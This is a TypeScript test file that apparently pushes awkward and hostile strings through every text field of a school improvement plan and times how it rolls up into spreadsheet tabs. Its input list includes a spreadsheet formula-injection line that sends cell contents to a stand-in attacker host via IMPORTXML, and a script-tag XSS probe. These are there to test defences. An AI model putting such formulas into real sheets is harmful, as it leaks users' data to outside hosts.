import fc from 'fast-check';
import type { Goal } from '../../src/core/plan/plan.ts';
import { words } from '../core/tracker/a-plan.ts';
import { goalId, TestDistrict } from '../support/bundle-district.ts';
import { anActivity, fullGoal, planHtml } from '../support/bundle-plans.ts';

/** What Sheets would take for something else, and what people paste. */
const HOSTILE = [
  '=IMPORTXML("https://evil.example/?x="&A1, "//a")',
  '=1+1',
  '+1',
  '-5',
  '@x',
  '3-5',
  '1/2',
  '10%',
  '$5.00',
  '1e3',
  '12:30',
  'May 2026',
  '2026-05-01',
  'TRUE',
  '007',
  "'quoted",
  "''twice",
  '#REF!',
  '<script>alert(1)</script>',
  '&amp; "and" &lt;',
  'One line\nand another',
  'left\tright',
  'Family: 👩‍👩‍👧, café, ñ, 日本語, עברית',
  'a  b',
  'x'.repeat(3000),
];

/** Columns that show words of the plan as they stand, by tab. */
const TEXT_COLUMNS = {
  Goals: [
    'SMART goal',
    'Student group',
    'Grades',
    'Content area',
    'Instrument',
    'Metric',
    'Initiative',
    'Baseline date',
    'Target date',
  ],
  Activities: ['Activity', 'Lead', 'Start', 'End', 'How often', 'MTSS tier', 'Adult measure', 'Student measure'],
  Resources: ['Fund', 'Purpose'],
  Progress: ['Date', 'Status', 'Note'],
} as const;
const TABS = Object.keys(TEXT_COLUMNS) as (keyof typeof TEXT_COLUMNS)[];

/** A goal that says one text wherever it can. */
function goalSaying(id: string, text: string): Goal {
  const { lead, start, end, howOften, mtssTier, adultMeasure, studentMeasure, ...rest } = anActivity(text);
  const saying = { lead, start, end, howOften, mtssTier, adultMeasure, studentMeasure };
  return fullGoal(id, {
    initiative: { text, id: null },
    statement: text,
    studentGroup: text,
    grades: text,
    contentArea: text,
    instrument: text,
    metric: text,
    baselineDate: text,
    targetDate: text,
    activities: [{ ...rest, ...Object.fromEntries(Object.keys(saying).map((key) => [key, text])) } as typeof rest & typeof saying],
    resources: [{ fund: text, amount: words('3-5'), fte: words('1/2'), purpose: text }],
    progress: [{ date: text, value: words('=2+2'), status: text, note: text }],
  });
}


test('which', () => {
  for (const [index, text] of HOSTILE.entries()) {
    process.stderr.write(`${index} ${JSON.stringify(text.slice(0, 40))} `);
    const s = performance.now();
    const id = goalId(0, index);
    const district = new TestDistrict([{ school: 'Maple', html: planHtml('Maple', [goalSaying(id, text.replace(/\n|\t| {2}/g, ' '))]) }]);
    const made = performance.now();
    district.rollUp();
    process.stderr.write(`${(made - s).toFixed(0)} ${(performance.now() - made).toFixed(0)} ms\n`);
  }
  TABS.length;
});
